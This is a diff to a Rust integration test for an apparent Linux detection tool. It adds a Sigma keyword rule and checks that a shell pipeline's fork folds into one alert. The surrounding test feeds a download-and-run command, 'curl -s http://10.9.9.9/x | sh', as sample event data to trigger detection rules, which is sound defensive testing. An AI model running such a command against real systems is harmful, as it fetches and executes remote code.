@@ -952,6 +952,20 @@ detection:
   condition: selection
 ";
 
+/// A keyword rule with only a product, as SigmaHQ's Linux shell rules are: it applies to
+/// every Linux event, forks and exits included.
+const KEYWORD_RULE: &str = "title: Test Keywords
+id: 5b7f6a4e-0000-4000-8000-00000000c0df
+status: test
+level: medium
+logsource:
+  product: linux
+detection:
+  keywords:
+    - 'mamori-keyword'
+  condition: keywords
+";
+
 /// A server whose rules directory holds [`ENCODED_SHELL_RULE`], and an agent enrolled with
 /// it: (server data, rules directory, port, server, agent data).
 fn encoded_shell_server(tag: &str) -> (PathBuf, PathBuf, u16, ServerProc, PathBuf) {
@@ -1273,6 +1287,7 @@ correlation:
     )
     .unwrap();
     std::fs::write(rules.join("test.yml"), ENCODED_SHELL_RULE).unwrap();
+    std::fs::write(rules.join("keywords.yml"), KEYWORD_RULE).unwrap();
     let port = free_port();
     let mut child = mamori(&srv)
         .args(["server", "run", "--listen", &format!("127.0.0.1:{port}")])
@@ -1314,6 +1329,22 @@ correlation:
         sp.append(exec(pid, "curl -s http://10.9.9.9/x | sh").as_bytes())
             .unwrap();
     }
+    // A pipeline as the sensor sees it: the shell, a fork of it (its program still), and the
+    // fork executing `cat` (whose parent's command line holds the keyword).
+    let pipeline = "echo mamori-keyword | cat";
+    sp.append(exec(500, pipeline).as_bytes()).unwrap();
+    let child = |action: &str, cmd: &str| {
+        exec(501, cmd)
+            .replace(r#""action":"exec""#, &format!(r#""action":"{action}""#))
+            .replace(
+                r#""parent":{"pid":1,"executable":"/usr/sbin/cron","command_line":"cron"}"#,
+                &format!(
+                    r#""parent":{{"pid":500,"entity_id":"boot:500:1","executable":"/bin/sh","command_line":"{pipeline}"}}"#
+                ),
+            )
+    };
+    sp.append(child("fork", pipeline).as_bytes()).unwrap();
+    sp.append(child("exec", "cat").as_bytes()).unwrap();
     sp.sync().unwrap();
     drop(sp);
     let shipped = Instant::now();
@@ -1325,7 +1356,7 @@ correlation:
         let corr = v
             .iter()
             .any(|a| a["rule_title"] == "Repeated Download To Shell");
-        let folded = v.iter().any(|a| a["count"] == 2);
+        let folded = v.iter().filter(|a| a["count"] == 2).count() >= 2;
         if (corr && folded) || Instant::now() > deadline {
             break v;
         }
@@ -1353,6 +1384,16 @@ correlation:
         Some(3),
         "the contributing events are the evidence: {corr}"
     );
+    // A keyword rule: one alert on the shell, its fork folded into it; the child that
+    // executed `cat` does not match through its parent's command line.
+    let keyword: Vec<&serde_json::Value> = alerts
+        .iter()
+        .filter(|a| a["rule_title"] == "Test Keywords")
+        .collect();
+    assert_eq!(keyword.len(), 1, "one alert for the pipeline: {keyword:?}");
+    assert_eq!(keyword[0]["process_entity"], "boot:500:1");
+    assert_eq!(keyword[0]["count"], 2, "the fork folded in: {}", keyword[0]);
+    assert_eq!(keyword[0]["evidence"][1]["event"]["action"], "fork");
     let alerts: Vec<&serde_json::Value> = alerts
         .iter()
         .filter(|a| a["rule_title"] == "Test Encoded Shell")
